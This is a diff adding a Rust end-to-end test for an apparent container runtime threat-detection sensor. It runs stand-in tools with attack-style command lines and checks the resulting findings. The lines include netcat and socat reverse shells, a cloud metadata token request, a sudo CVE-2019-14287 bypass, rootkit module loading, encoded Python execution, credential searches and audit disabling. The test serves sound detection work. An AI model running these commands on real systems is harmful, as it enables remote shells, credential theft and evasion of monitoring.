@@ -191,3 +191,140 @@ fn scc_added_malicious_binary_and_malicious_url() {
     assert_eq!(u["indicator"]["uris"][0], "http://203.0.113.66/payload.sh");
     assert_eq!(u["indicator"]["ipAddresses"][0], "203.0.113.66");
 }
+
+/// One workload doing, for real, what many exec-sensor categories describe. Tools this machine does not
+/// have are stand-ins: executables with the tool's name (copies of /bin/true, or /bin/sh where the
+/// tool starts a shell), run with the tool's real arguments; what is checked is the whole path from
+/// the exec stop to the finding in the sink.
+#[test]
+fn scc_exec_categories_end_to_end() {
+    let dir = tempfile::tempdir().unwrap();
+    let bin = dir.path().join("bin");
+    std::fs::create_dir(&bin).unwrap();
+    for name in
+        ["nc", "peirates", "steghide", "rclone", "sshd", "insmod", "auditctl", "curl", "socat", "sudo"]
+    {
+        std::fs::copy("/bin/true", bin.join(name)).unwrap();
+    }
+    std::fs::copy("/bin/sh", bin.join("foomatic-rip")).unwrap();
+    std::fs::write(bin.join("linpeas.sh"), "true\n").unwrap();
+    let victim = dir.path().join("victim");
+    std::fs::write(&victim, "data").unwrap();
+    let b = bin.display();
+    let steps = [
+        format!("{b}/nc -z 127.0.0.1 1"),
+        format!("{b}/nc 127.0.0.1 9 -e /bin/sh"),
+        format!("{b}/peirates"),
+        format!("sh {b}/linpeas.sh"),
+        "sh -c 'echo 1 > /nonexistent/cgroup/release_agent 2>/dev/null; true'".to_string(),
+        format!("{b}/steghide extract -sf image.jpg"),
+        format!("{b}/rclone copy /data remote:bucket"),
+        "/bin/true --no-preserve-root".to_string(),
+        format!("shred -u {}", victim.display()),
+        "/bin/true -o stratum+tcp://pool.example:3333 -u wallet".to_string(),
+        format!("{b}/sudo -u#-1 id"),
+        format!("{b}/sshd -D"),
+        format!("{b}/insmod /tmp/rootkit.ko"),
+        format!("{b}/curl -H 'Metadata-Flavor: Google' http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"),
+        format!("{b}/auditctl -D"),
+        format!("{b}/socat TCP-LISTEN:9 EXEC:/bin/bash"),
+        format!("{b}/foomatic-rip -c 'sh -c true'"),
+        "sh -c 'false && curl -s http://127.0.0.1:1/x | base64 -d'".to_string(),
+        "sh -c 'echo cHJpbnQoInB5Iik= | base64 -d | python3'".to_string(),
+        "python3 -c \"import base64;exec(base64.b64decode('cHJpbnQoImI2NCIp'))\"".to_string(),
+        "python3 -c \"import subprocess;subprocess.run(['sh','-c','true'])\"".to_string(),
+        "python3 -c \"import os;fd=os.memfd_create('x');os.write(fd,open('/bin/true','rb').read());os.execv('/proc/self/fd/%d'%fd,['x'])\"".to_string(),
+        "find /nonexistent -name application_default_credentials.json 2>/dev/null".to_string(),
+        "find /nonexistent -name secring.gpg 2>/dev/null".to_string(),
+        "gcc --version >/dev/null".to_string(),
+        "sh -c 'echo f0VMRgIBAQAAAAAAAAAAAAIAPgAB >/dev/null'".to_string(),
+    ];
+    let script = steps.join("; ") + "; true";
+    let (mut cmd, sink) = rw_with_sink(&dir);
+    cmd.args(["--", "sh", "-c", &script]);
+    run(&mut cmd, Duration::from_secs(60)).assert_code(0);
+    let findings = findings_of(&sink);
+    let has = |category: &str, marker: &str| {
+        findings.iter().any(|f| {
+            f["category"] == category
+                && f["processes"][0]["args"]
+                    .as_array()
+                    .is_some_and(|a| a.iter().any(|x| x.as_str().unwrap_or("").contains(marker)))
+        })
+    };
+    let expected = [
+        ("Execution: Netcat Remote Code Execution in Container", "-z", "LOW"),
+        ("Execution: Netcat Remote Code Execution in Container", "-e", "HIGH"),
+        ("Execution: Kubernetes Attack Tool Execution", "peirates", "CRITICAL"),
+        ("Execution: Local Reconnaissance Tool Execution", "linpeas.sh", "MEDIUM"),
+        ("Execution: Container Escape", "release_agent", "CRITICAL"),
+        ("Command and Control: Steganography Tool Detected", "extract", "CRITICAL"),
+        ("Exfiltration: Launch Remote File Copy Tools in Container", "remote:bucket", "LOW"),
+        ("Impact: Detect Malicious Cmdlines", "--no-preserve-root", "CRITICAL"),
+        ("Impact: Remove Bulk Data From Disk", "-u", "LOW"),
+        (
+            "Impact: Suspicious crypto mining activity using the Stratum Protocol",
+            "stratum+tcp://pool.example:3333",
+            "HIGH",
+        ),
+        (
+            "Privilege Escalation: Abuse of Sudo For Privilege Escalation (CVE-2019-14287)",
+            "-u#-1",
+            "CRITICAL",
+        ),
+        ("Persistence: SSH Server Started in Container", "-D", "MEDIUM"),
+        ("Persistence: Kernel Module Load Attempt", "/tmp/rootkit.ko", "HIGH"),
+        ("Credential Access: Cloud Metadata Token Requested", "Metadata-Flavor: Google", "MEDIUM"),
+        ("Defense Evasion: Disable or Modify Linux Audit System", "-D", "MEDIUM"),
+        ("Execution: Socat Reverse Shell Detected", "EXEC:/bin/bash", "MEDIUM"),
+        ("Execution: Possible Arbitrary Command Execution through CUPS (CVE-2024-47076)", "true", "CRITICAL"),
+        ("Command and Control: Piped Encoded Download", "base64 -d", "MEDIUM"),
+        ("Command and Control: Piped Encoded Code Execution Detected", "python3", "HIGH"),
+        ("Defense Evasion: Base64 Encoded Python Script Executed", "b64decode", "MEDIUM"),
+        ("Unexpected Child Shell", "true", "CRITICAL"),
+        ("Execution: Fileless Execution in /memfd:", "x", "HIGH"),
+        ("Credential Access: Find Google Cloud Credentials", "application_default_credentials.json", "LOW"),
+        ("Credential Access: GPG Key Reconnaissance", "secring.gpg", "CRITICAL"),
+        ("Defense Evasion: Launch Code Compiler Tool In Container", "--version", "LOW"),
+        ("Defense Evasion: Base64 ELF File Command Line", "f0VMR", "MEDIUM"),
+    ];
+    let mut missing = Vec::new();
+    for (category, marker, severity) in expected {
+        if !has(category, marker) {
+            missing.push(format!("{category} (args containing {marker:?})"));
+            continue;
+        }
+        let f = findings.iter().find(|f| f["category"] == category && f["severity"] == severity);
+        if f.is_none() {
+            missing.push(format!("{category} with severity {severity}"));
+        }
+    }
+    assert!(
+        missing.is_empty(),
+        "missing findings:\n{}\n\ngot: {:#?}",
+        missing.join("\n"),
+        findings
+            .iter()
+            .map(|f| (
+                f["category"].as_str().unwrap_or("").to_string(),
+                f["processes"][0]["args"].to_string()
+            ))
+            .collect::<Vec<_>>()
+    );
+    // Every finding is complete per the contract.
+    for f in &findings {
+        for key in [
+            "findingId",
+            "category",
+            "severity",
+            "eventTime",
+            "description",
+            "mitreAttack",
+            "rule",
+            "resource",
+            "action",
+        ] {
+            assert!(!f[key].is_null(), "{key} missing in {f}");
+        }
+    }
+}
